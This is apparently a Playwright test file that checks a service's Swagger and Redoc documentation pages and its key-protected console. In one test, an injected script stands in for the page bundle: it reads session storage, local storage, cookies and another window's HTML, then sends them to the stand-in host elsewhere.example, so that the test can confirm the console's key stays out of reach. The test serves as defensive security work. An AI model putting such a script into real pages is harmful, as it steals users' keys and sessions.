"""The pages that show the OpenAPI document, in a real browser: their scripts, requests and access to keys."""

from __future__ import annotations

import pytest
from playwright.sync_api import Browser, Request, Response

from tests.console.conftest import Console
from tests.service import Service

PAGES = {
    "/docs": ("swagger-ui-bundle.js", "#page .opblock-summary"),
    "/redoc": ("redoc.standalone.js", "#page h2:has-text('Decide one ask')"),
}


@pytest.mark.parametrize("path", PAGES)
def test_page_shows_every_route_and_contacts_no_other_host(browser: Browser, node: Service, path: str):
    page = browser.new_page()
    page.set_default_timeout(60_000)
    asked: list[str] = []
    complaints: list[str] = []

    def note(request: Request) -> None:
        asked.append(request.url)

    page.on("request", note)
    page.on("console", lambda said: complaints.append(said.text) if said.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.goto(f"{node.url}{path}")
    script, shown = PAGES[path]
    page.locator(shown).first.wait_for()
    assert f"{node.url}/openapi.json" in asked
    assert any(url.endswith(script) for url in asked)
    assert [url for url in asked if not url.startswith((node.url, "data:"))] == []
    assert complaints == []
    page.close()


@pytest.mark.parametrize("path", PAGES)
def test_documentation_page_cannot_read_the_consoles_key(browser: Browser, node: Service, path: str):
    """As if the page's script came from an attacker."""
    context = browser.new_context()
    page, thief = context.new_page(), context.new_page()
    page.goto(f"{node.url}/console")
    Console(page, node).unlocked()
    script, _ = PAGES[path]
    steals = """
        const open = window.open("/console", "stolen");
        let frame = document.body.appendChild(document.createElement("iframe"));
        frame.src = "/console";
        window.stolen = async () => {
            const seen = [JSON.stringify(sessionStorage), JSON.stringify(localStorage), document.cookie];
            for (const other of [open, window.opener, frame.contentWindow]) {
                try { seen.push(other.document.documentElement.outerHTML); } catch (error) { seen.push(""); }
            }
            try { await fetch("https://elsewhere.example/" + seen[0]); seen.push("SENT"); } catch { }
            return seen;
        };
    """
    context.route(f"**/{script}", lambda route: route.fulfill(body=steals, content_type="text/javascript"))
    thief.goto(f"{node.url}{path}")
    thief.wait_for_function("window.stolen")
    thief.wait_for_timeout(500)  # for the window and the frame to load, if they may
    seen = thief.evaluate("window.stolen()")
    assert "SENT" not in seen
    for text in seen:
        assert node.admin_key not in text
        assert "key-form" not in text, "no hold of a window of the console"
    context.close()


def test_a_key_is_gone_when_the_page_is_loaded_again(console: Console):
    console.unlocked()
    assert console.page.evaluate("JSON.stringify(sessionStorage) + JSON.stringify(localStorage)") == "{}{}"
    console.page.reload()
    console.says("This needs a key")


def test_browser_is_redirected_from_the_root_to_the_console(browser: Browser, node: Service):
    page = browser.new_page()
    answer: Response | None = page.goto(f"{node.url}/")
    assert answer is not None
    assert page.url.startswith(f"{node.url}/console")
    page.close()
